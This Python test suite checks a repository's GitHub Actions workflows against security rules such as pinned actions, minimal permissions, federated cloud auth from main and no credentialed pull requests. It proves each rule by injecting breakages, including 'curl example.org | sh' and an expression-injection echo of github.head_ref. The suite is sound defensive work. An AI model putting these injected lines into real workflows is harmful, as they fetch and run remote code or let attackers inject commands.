"""What every workflow of GitHub must keep to, whoever changes it; each rule is shown to find what breaks it."""

import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from clouds import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = ("bench", "ci", "deploy", "images", "release", "train")
PINNED = re.compile(r"uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+\s*$")
OWN = re.compile(r"uses: \./\.github/workflows/[a-z]+\.yml(?:  # zizmor: ignore\[self-repository\])?\s*$")
TARGET = re.compile(r"make ([a-z-]+)")
# without a target: a line that needs nothing of the repository, which its job does not check out
TRIVIAL = {'test "$RESULTS" = "success success"'}
# what a job may write beyond reading the repository, and nothing else
WRITES = {
    ("images", "publish"): {"packages", "id-token", "attestations"},
    ("train", "train"): {"id-token"},
    ("train", "release-gpu"): {"id-token"},
    ("train", "report"): {"pull-requests"},
    ("train", "promote"): {"id-token"},
    ("train", "deploy"): {"id-token"},
    ("deploy", "deploy"): {"id-token"},
    ("release", "build"): {"id-token", "attestations"},
    ("release", "pypi"): {"id-token"},
    ("release", "github"): {"contents"},
}
Job = dict[str, Any]


def targets() -> set[str]:
    return set(re.findall(r"^([a-z][a-z-]*):", (ROOT / "Makefile").read_text(), re.MULTILINE))


def jobs(text: str) -> Iterator[tuple[str, Job]]:
    yield from yaml.safe_load(text)["jobs"].items()


def steps(text: str) -> Iterator[tuple[str, dict[str, Any]]]:
    for name, job in jobs(text):
        for step in job.get("steps", ()):
            yield name, step


def events(text: str) -> Any:
    return yaml.safe_load(text)[True]  # YAML 1.1 reads `on` as true


def actions_are_pinned(_: str, text: str) -> list[str]:
    uses = [line.strip().removeprefix("- ") for line in text.splitlines() if re.match(r"\s*(- )?uses:", line)]
    return [line for line in uses if not PINNED.match(line) and not OWN.match(line)]


def nothing_is_permitted_at_the_top(_: str, text: str) -> list[str]:
    return [] if yaml.safe_load(text).get("permissions") == {} else ["permissions at the top are not {}"]


def each_job_has_a_time_limit(_: str, text: str) -> list[str]:
    return [name for name, job in jobs(text) if "uses" not in job and not 0 < job.get("timeout-minutes", 0) <= 330]


def each_job_may_write_only_what_it_must(workflow: str, text: str) -> list[str]:
    found = []
    for name, job in jobs(text):
        given = job.get("permissions")
        if not isinstance(given, dict) or any(value not in ("read", "write", "none") for value in given.values()):
            found.append(f"{name}: no permissions of its own")
        elif {scope for scope, value in given.items() if value == "write"} != WRITES.get((workflow, name), set()):
            found.append(f"{name}: writes {given}")
    return found


def the_only_secret_is_githubs_own(_: str, text: str) -> list[str]:
    named = re.findall(r"secrets(?:\.|\[\s*')(\w+)|(secrets:\s*inherit)|(toJSON\(\s*secrets)", text)
    return [str(one) for one in named if one[0] != "GITHUB_TOKEN"]


def no_key_lives_long(_: str, text: str) -> list[str]:
    return re.findall(r"credentials_json|service_account_key|GOOGLE_APPLICATION_CREDENTIALS|private_key|password: (?!\$\{\{)", text)  # fmt: skip  # noqa: E501


def google_is_reached_by_federation_from_main_alone(workflow: str, text: str) -> list[str]:
    found = []
    for name, job in jobs(text):
        for step in job.get("steps", ()):
            if not step.get("uses", "").startswith("google-github-actions/auth@"):
                continue
            told, main = step.get("with", {}), "github.ref == 'refs/heads/main'"
            if "workload_identity_provider" not in told or "service_account" not in told:
                found.append(f"{name}: no federation")
            narrowed = name in ("train", "release-gpu", "promote", "deploy") and main in job.get("if", "")
            if not narrowed and main not in step.get("if", ""):
                found.append(f"{name}: also from elsewhere than main")
            if "environment" not in job:
                found.append(f"{name}: no environment")
    return found


def no_pull_request_has_credentials(_: str, text: str) -> list[str]:
    on = events(text)
    found = [event for event in ("pull_request_target", "workflow_run", "issue_comment") if event in on]
    if "pull_request" in on:
        for name, job in jobs(text):
            permitted = (job.get("permissions") or {}).values()
            if "write" in permitted and job.get("if") != "github.event_name == 'push'":
                found.append(f"{name}: writes for a pull request")
    return found


def a_checkout_keeps_no_credentials_and_takes_no_other_commit(_: str, text: str) -> list[str]:
    found = []
    for name, step in steps(text):
        if step.get("uses", "").startswith("actions/checkout@"):
            told = step.get("with", {})
            if told.get("persist-credentials") is not False or "ref" in told or "repository" in told:
                found.append(name)
    return found


def every_script_is_a_target_of_make(_: str, text: str) -> list[str]:
    known = targets()
    found = []
    for name, step in steps(text):
        script = str(step.get("run", "")).strip()
        match = TARGET.fullmatch(script)
        if script and script not in TRIVIAL and (match is None or match[1] not in known):
            found.append(f"{name}: {script}")
    return found


def no_expression_is_pasted_into_a_script(_: str, text: str) -> list[str]:
    return [name for name, step in steps(text) if "${{" in str(step.get("run", ""))]


def what_is_under_way_is_not_doubled(_: str, text: str) -> list[str]:
    return [] if (yaml.safe_load(text).get("concurrency") or {}).get("group") else ["no concurrency group"]


Rule = Callable[[str, str], list[str]]
SHA = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
# a rule, a workflow, and how to break it
BROKEN: list[tuple[Rule, str, str, str]] = [
    (actions_are_pinned, "ci", f"@{SHA} # v6.0.2", "@v6"),
    (actions_are_pinned, "ci", f"@{SHA} # v6.0.2", f"@{SHA}"),
    (actions_are_pinned, "ci", f"@{SHA}", f"@{SHA[:12]}"),
    (nothing_is_permitted_at_the_top, "deploy", "permissions: {}", "permissions: {contents: read}"),
    (nothing_is_permitted_at_the_top, "deploy", "permissions: {}\n", ""),
    (each_job_has_a_time_limit, "deploy", "    timeout-minutes: 45\n", ""),
    (each_job_may_write_only_what_it_must, "deploy", "contents: read", "contents: write"),
    (each_job_may_write_only_what_it_must, "bench", "    permissions:\n      contents: read\n", ""),
    (each_job_may_write_only_what_it_must, "bench", "permissions:\n      contents: read", "permissions: write-all"),
    (the_only_secret_is_githubs_own, "train", "secrets.GITHUB_TOKEN", "secrets.PERSONAL_TOKEN"),
    (the_only_secret_is_githubs_own, "train", "  deploy:\n", "  deploy:\n    secrets: inherit\n"),
    (no_key_lives_long, "deploy", "workload_identity_provider:", "credentials_json:"),
    (google_is_reached_by_federation_from_main_alone, "deploy", "workload_identity_provider:", "credentials_json:"),
    (google_is_reached_by_federation_from_main_alone, "deploy", "    if: github.ref == 'refs/heads/main'\n", ""),
    (google_is_reached_by_federation_from_main_alone, "images", "        if: github.ref == 'refs/heads/main'\n", ""),
    (google_is_reached_by_federation_from_main_alone, "deploy", "    environment: production\n", ""),
    (no_pull_request_has_credentials, "ci", "  pull_request:\n", "  pull_request_target:\n"),
    (no_pull_request_has_credentials, "images", "    if: github.event_name == 'push'\n", ""),
    (a_checkout_keeps_no_credentials_and_takes_no_other_commit, "ci", "persist-credentials: false", "fetch-depth: 0"),
    (a_checkout_keeps_no_credentials_and_takes_no_other_commit, "train", "          persist-credentials: false",
     "          persist-credentials: false\n          ref: refs/pull/1/head"),
    (every_script_is_a_target_of_make, "ci", "make check", "make chekc"),
    (every_script_is_a_target_of_make, "ci", "make check", "make check && curl example.org | sh"),
    (no_expression_is_pasted_into_a_script, "ci", "make check", 'echo "${{ github.head_ref }}"'),
    (what_is_under_way_is_not_doubled, "train", "  group: train", "  other: train"),
]  # fmt: skip


@pytest.mark.parametrize("rule", dict.fromkeys(rule for rule, *_ in BROKEN), ids=lambda rule: rule.__name__)
@pytest.mark.parametrize("name", NAMES)
def test_a_workflow_keeps_to_the_rule(name: str, rule: Rule) -> None:
    assert rule(name, (WORKFLOWS / f"{name}.yml").read_text("utf-8")) == []


@pytest.mark.parametrize(("rule", "name", "whole", "broken"), BROKEN, ids=lambda one: getattr(one, "__name__", ""))
def test_the_rule_finds_what_breaks_it(rule: Rule, name: str, whole: str, broken: str) -> None:
    text = (WORKFLOWS / f"{name}.yml").read_text("utf-8")
    assert whole in text
    assert rule(name, text.replace(whole, broken, 1))


def test_no_workflow_is_left_out() -> None:
    assert tuple(sorted(file.stem for file in WORKFLOWS.iterdir())) == NAMES


def test_the_gpu_is_released_whatever_happens() -> None:
    job = dict(jobs((WORKFLOWS / "train.yml").read_text("utf-8")))["release-gpu"]
    assert job["if"].startswith("always()")
    assert job["needs"] == "train"
    assert job["steps"][-1]["run"] == "make train-stop"


def test_what_a_pull_request_changed_is_never_promoted() -> None:
    found = dict(jobs((WORKFLOWS / "train.yml").read_text("utf-8")))
    assert "inputs.pull_request == ''" in found["promote"]["if"]
    assert found["deploy"]["needs"] == "promote"


def test_ci_covers_the_systems_and_pythons_that_are_promised() -> None:
    matrix = dict(jobs((WORKFLOWS / "ci.yml").read_text("utf-8")))["test"]["strategy"]["matrix"]
    assert {name.split("-")[0] for name in matrix["os"]} == {"ubuntu", "macos", "windows"}
    classifiers = re.findall(r"Python :: (3\.\d+)", (ROOT / "pyproject.toml").read_text())
    assert matrix["python"] == classifiers


def test_the_job_that_branch_protection_asks_for_needs_every_other() -> None:
    found = dict(jobs((WORKFLOWS / "ci.yml").read_text("utf-8")))
    assert set(found["passed"]["needs"]) == set(found) - {"passed"}
    assert found["passed"]["steps"][0]["run"].count("success") == len(found) - 1


def test_a_finding_of_zizmor_fails_the_check(tmp_path: Path) -> None:
    program = shutil.which("zizmor") or pytest.skip("zizmor is not installed")
    file = tmp_path / "ci.yml"
    text = (WORKFLOWS / "ci.yml").read_text("utf-8")
    for content, fails in ((text, False), (text.replace("make check", 'echo "${{ github.head_ref }}"'), True)):
        file.write_text(content, encoding="utf-8")
        words = [program, "--offline", "--quiet", "--persona=pedantic", str(file)]
        assert bool(subprocess.run(words, capture_output=True, check=False).returncode) == fails
